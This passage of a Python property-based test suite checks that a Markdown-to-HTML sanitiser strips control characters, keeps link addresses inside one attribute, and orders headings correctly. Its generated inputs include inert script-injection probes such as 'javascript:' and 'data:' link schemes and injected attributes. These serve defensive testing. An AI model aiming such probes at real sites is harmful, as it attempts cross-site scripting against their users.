                    "tel:1",
                    "javascript:x",
                    "data:x",
                ),
            ]
        ).map("[l]({})".format),
        st.text(alphabet=st.characters(codec="utf-8", exclude_characters="<"), max_size=5),
    ),
    max_size=12,
).map("".join)


@given(NEARLY_PLAIN)
@example("```")
@settings(max_examples=examples(500), deadline=None)
def test_the_sanitiser_is_spared_only_what_it_would_leave_as_it_is(body):
    """A comment brings it in, and leaves nothing but its line."""
    text = f"word\n\n{body}"
    assert to_html(f"<!-- -->\n\n{text}", as_written, BACK) == f"\n{to_html(text, as_written, BACK)}"


ODD = (
    "\0", "&#0;", "&#7;", "<div>&#7;</div>\n", "x" * 300, ' data-sourcepos="1:1-2:2"', "<p data-sourcepos='1:1'>",
    '\n```a data-sourcepos="1:1-1:1"\nx\n```\n', "[x](y \"data-sourcepos='1:1-1:1'\")", "[^1]", "\n\n[^1]: n\n",
)  # fmt: skip


@given(
    st.one_of(MARKDOWN, MIXED, NEARLY_PLAIN, st.lists(st.sampled_from([*SIGNS, *HTML, *ODD])).map("".join))
)
@example("[r]: x\na###### [r]: x\n")
@settings(max_examples=examples(500), deadline=None)
def test_one_look_at_a_text_finds_what_two_would(body):
    """Its HTML without places is the HTML of a parser that was not asked for places."""
    body = body.replace("\r", "\n")  # as all texts are decoded
    assert read(body) == (outline(body), cleaned(body))


@pytest.mark.parametrize("body", ["<p>&#7;</p>\n", "&#7;", "a <b title='&#x1b;'>b</b>", "<div>\0&#0;</div>"])
def test_entities_bring_in_nothing_that_feeds_must_not_hold(body):
    """Neither by way of the parser nor, in raw HTML, of the sanitiser."""
    html = html_of(body)
    assert "\ufffd" in html
    assert is_clean(html, html.encode())


@given(st.one_of(MARKDOWN, MIXED))
@example("[r]: x\na###### [r]: x\n")
@settings(max_examples=examples(200), deadline=None)
def test_the_places_of_any_text_are_inside_it(body):
    """Links and refused HTML point at characters that are there."""
    found = outline(body)
    lines = body.split("\n")
    places = [(link.line, link.column) for link in found.links] + [
        (remark.line, remark.column) for remark in found.remarks
    ]
    for line, column in places:
        assert 1 <= line <= len(lines)
        assert 1 <= column <= len(lines[line - 1]) + 1
    assert len(found.first_paragraph) <= SUMMARY_LENGTH


@given(st.lists(st.integers(1, 6), max_size=12))
@settings(max_examples=examples(100), deadline=None)
def test_no_order_of_headings_skips_a_level(written):
    """The first is level two, each next one at most one deeper, and deeper stays deeper."""
    html = html_of("\n\n".join("#" * level + " x" for level in written))
    levels = [int(tag[1]) for tag, _ in Events(html).tags]
    assert len(levels) == len(written)
    assert all(level >= 2 for level in levels)
    assert levels[:1] in ([], [2])
    for index in range(1, len(levels)):
        assert levels[index] <= levels[index - 1] + 1
        if written[index] > written[index - 1]:
            assert levels[index] > levels[index - 1] or levels[index] == 6


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=40))
@settings(max_examples=examples(100), deadline=None)
def test_any_address_comes_out_as_the_resolver_gave_it(address):
    """Whatever characters it has, it stays one attribute."""
    html = to_html("[a](b)", lambda target, is_image: address, BACK)
    ((_, attrs),) = [one for one in Events(html).tags if one[0] == "a"]
    assert attrs == ({"href": address} if address else {})
